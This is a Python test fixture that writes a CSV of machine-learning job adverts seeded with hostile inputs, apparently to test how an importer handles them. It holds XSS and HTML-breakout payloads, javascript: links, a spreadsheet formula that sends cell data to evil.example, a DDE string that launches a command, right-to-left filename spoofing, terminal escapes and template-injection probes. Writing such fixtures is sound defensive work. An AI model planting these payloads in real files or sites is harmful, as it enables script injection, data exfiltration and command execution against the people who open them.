"""Adverts that would do harm if a text of theirs were taken for more than a text.

Belongs here: the corpus, as a table that can be imported, and what it is made of. Does not belong
here: what must come of it (the tests).
"""

from __future__ import annotations

import csv
from pathlib import Path

SCRIPT = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
BREAKOUT = "'\"></script></style></svg><svg onload=\"document.title='owned'\">"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Machine Learning Engineer")'
COMMAND = "+cmd|' /C calc'!A0"
RIGHT_TO_LEFT = "Machine Learning Engineer \u202egnp.exe\u202c \u2067\u2066"
INVISIBLE = "\u200b\ufeff=1+1 Data Scientist"
MARKDOWN = "[Machine Learning Engineer](javascript:alert(1)) ![x](http://evil.example/x.png) @here"
TERMINAL = "Machine Learning Engineer \x1b[31m\x1b]0;owned\x07"
TEMPLATE = "{{ 7 * 7 }} {% raw %} ${7*7} Machine Learning Engineer"

TITLES = (
    SCRIPT,
    BREAKOUT,
    FORMULA,
    COMMAND,
    RIGHT_TO_LEFT,
    INVISIBLE,
    MARKDOWN,
    TERMINAL,
    TEMPLATE,
)
COMPANIES = (FORMULA, SCRIPT, "@SUM(1+1)*cmd", "-2+3", RIGHT_TO_LEFT, MARKDOWN, "Ordinary Ltd")
URLS = ("javascript:document.title='owned'", 'https://jobs.example.org/"><script>1</script>')

MAP = """
fields:
  source_id: id
  title: title
  company: company
  body: text
  location: place
  posted_on: day
  url: url
"""


def write_hostile(folder: Path) -> tuple[Path, Path]:
    """Writes the table, `adverts.csv`, and its mapping.

    Args:
        folder: An existing folder.

    Returns:
        Both paths.
    """
    table, mapping = folder / "adverts.csv", folder / "map.yaml"
    mapping.write_text(MAP, encoding="utf-8")
    with table.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "title", "company", "text", "place", "day", "url"])
        for n in range(len(TITLES) * len(COMPANIES)):
            title, company = TITLES[n % len(TITLES)], COMPANIES[n % len(COMPANIES)]
            frameworks = ("PyTorch", "TensorFlow", "PyTorch and TensorFlow", "JAX")[n % 4]
            text = (
                f"Machine learning engineer number {n}. You build deep learning models with "
                f"{frameworks} and run them in production. {title} {SCRIPT} Pay: $150,000 - "
                f"$1{n % 10}0,000 a year base. {'Neural networks matter here. ' * (n % 5 + 1)}"
            )
            day = f"2026-0{n % 6 + 1}-{n % 27 + 1:02d}"
            writer.writerow(
                [n, title, company, text, "San Francisco, CA, USA", day, URLS[n % len(URLS)]]
            )
    return table, mapping
